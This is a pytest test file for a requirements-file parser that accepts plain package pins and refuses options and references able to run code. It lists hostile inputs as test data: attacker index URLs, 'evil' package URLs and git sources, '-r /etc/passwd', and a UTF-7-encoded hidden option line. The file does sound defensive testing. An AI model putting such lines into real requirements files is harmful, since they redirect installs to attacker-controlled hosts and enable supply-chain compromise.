"""Requirements files: the lines that pip may read, and the refusal of all others."""

from __future__ import annotations

import pytest

from serve_app.runtime.requirements_file import RejectedLine, parse_requirements

HASH = "sha256:" + "0" * 64


def test_names_versions_markers_and_hashes_pass() -> None:
    text = f"""\
# a comment
numpy>=1.20,<3   # another
requests[socks]==2.*; python_version >= "3.8"

tinypkg==1.0 \\
    --hash={HASH} \\
    --hash={HASH}
"""
    assert parse_requirements(text, "r.txt") == [
        "numpy<3,>=1.20",
        'requests[socks]==2.*; python_version >= "3.8"',
        f"tinypkg==1.0 --hash={HASH} --hash={HASH}",
    ]


@pytest.mark.parametrize(
    "line, reason",
    [
        ("--index-url http://attacker/simple", "the option in"),
        ("-i http://attacker/simple", "the option in"),
        ("--extra-index-url=http://attacker", "the option in"),
        ("--find-links /tmp", "the option in"),
        ("--trusted-host attacker", "the option in"),
        ("-r /etc/passwd", "the option in"),
        ("-c other.txt", "the option in"),
        ("-e .", "the option in"),
        ("--no-binary :all:", "the option in"),
        ("tinypkg --global-option=x", "the option in"),
        ("tinypkg \\\n --config-settings=a=b", "the option in"),
        ("./local", "names a file or a URL"),
        (".", "names a file or a URL"),
        ("/tmp/evil", "names a file or a URL"),
        ("evil-1.0.tar.gz", "names a file or a URL"),
        ("https://attacker/evil.whl", "names a file or a URL"),
        ("git+https://attacker/evil.git", "names a file or a URL"),
        ("evil @ https://attacker/evil.whl", "the URL of evil"),
        ("evil @ file:///tmp/evil", "the URL of evil"),
        ("evil @ git+ssh://attacker/x", "the URL of evil"),
        ("not a requirement", "is no requirement"),
    ],
)
def test_lines_that_can_run_code_are_refused(line: str, reason: str) -> None:
    with pytest.raises(RejectedLine) as error:
        parse_requirements(f"# first\nnumpy\n{line}\n", "requirements.txt")
    assert str(error.value).startswith("requirements.txt, line 3: ") and reason in str(error.value)
    assert "runtime.pip_allow_options" in str(error.value)


def test_a_declared_encoding_hides_no_line() -> None:
    """Decoding as pip does would hide an option; the line stays what it is, and pip gets the parsed form."""
    text = "# -*- coding: utf-7 -*-\n+AC0ALQ-index-url http://attacker/simple\n"
    with pytest.raises(RejectedLine, match="line 2"):
        parse_requirements(text, "requirements.txt")
